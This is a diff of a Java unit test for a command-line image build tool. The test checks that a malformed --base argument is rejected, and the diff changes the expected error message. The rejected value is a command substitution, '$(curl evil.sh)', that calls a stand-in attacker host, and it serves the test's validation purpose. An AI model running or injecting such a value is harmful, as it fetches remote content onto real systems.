@@ -32,7 +32,7 @@ class ImagesCommandTest {
     void aBaseThatIsNotARegistryReferenceIsAUsageError() {
         var run = PlanCommandTest.run("images", "build", "mc-api", "--base", "$(curl evil.sh)");
         assertThat(run.code()).isEqualTo(2);
-        assertThat(run.err()).contains("must be host[:port]/repository[:tag][@sha256:");
+        assertThat(run.err()).contains("must be [host[:port]/]repository[:tag][@sha256:");
     }
 
     @Test
